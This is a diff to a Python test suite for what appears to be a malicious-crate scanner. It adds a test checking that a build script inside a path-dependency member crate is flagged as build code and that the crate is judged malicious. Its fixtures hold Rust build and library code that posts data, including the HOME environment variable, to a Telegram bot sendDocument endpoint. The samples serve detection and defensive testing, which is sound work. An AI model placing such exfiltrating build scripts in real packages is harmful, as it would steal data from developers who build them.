@@ -11,6 +11,12 @@ from cratewatch.scan.extract import CrateArchive
 from cratewatch.scan.manifest import read_manifest
 
 MANIFEST = '[package]\nname = "demo"\nversion = "1.0.0"\n'
+BUILD_UPLOAD = (
+    "fn main() {\n"
+    '    let url = "https://api.telegram.org/bot1/sendDocument";\n'
+    '    reqwest::blocking::Client::new().post(url).body(std::env::var("HOME").unwrap()).send();\n'
+    "}\n"
+)
 UPLOAD = (
     "pub fn send(k: Vec<u8>) {\n"
     '    let url = "https://api.telegram.org/bot1/sendDocument";\n'
@@ -113,6 +119,31 @@ def test_a_script_embedded_with_include_str_runs_where_its_includer_does() -> No
         result = scan({"src/lib.rs": "", **files})
         assert contexts(result, "threat-script-escaped-string") == {("js/prelude.js", Context.TEST)}
         assert result.verdict is Verdict.CLEAN
+
+
+def test_a_crate_depended_on_by_a_path_inside_the_package_builds_as_its_own() -> None:
+    # a compromised release adds a member crate whose build script runs when it is built
+    manifest = MANIFEST + '[dependencies]\ntables = { version = "0.1", path = "tables" }\n'
+    member = '[package]\nname = "tables"\nversion = "0.1.0"\n'
+    files = {
+        "src/lib.rs": "",
+        "tables/Cargo.toml": member,
+        "tables/build.rs": BUILD_UPLOAD,
+        "tables/src/lib.rs": UPLOAD,
+    }
+    result = scan(files, manifest)
+    assert contexts(result, "threat-telegram-bot-api") >= {
+        ("tables/build.rs", Context.BUILD),
+        ("tables/src/lib.rs", Context.LIBRARY),
+    }
+    assert result.verdict is Verdict.MALICIOUS
+    # a path outside the package, or a dev-dependency, is not the crate's build
+    for spec in ('tables = { path = "../tables" }', 'tables = { path = "tables" }'):
+        kind = "dev-dependencies" if "../" not in spec else "dependencies"
+        other = scan(files, MANIFEST + f"[{kind}]\n{spec}\n")
+        assert ("tables/build.rs", Context.BUILD) not in contexts(
+            other, "threat-telegram-bot-api"
+        )
 
 
 def test_scripts_that_build_code_or_configuration_run_are_build_code() -> None:
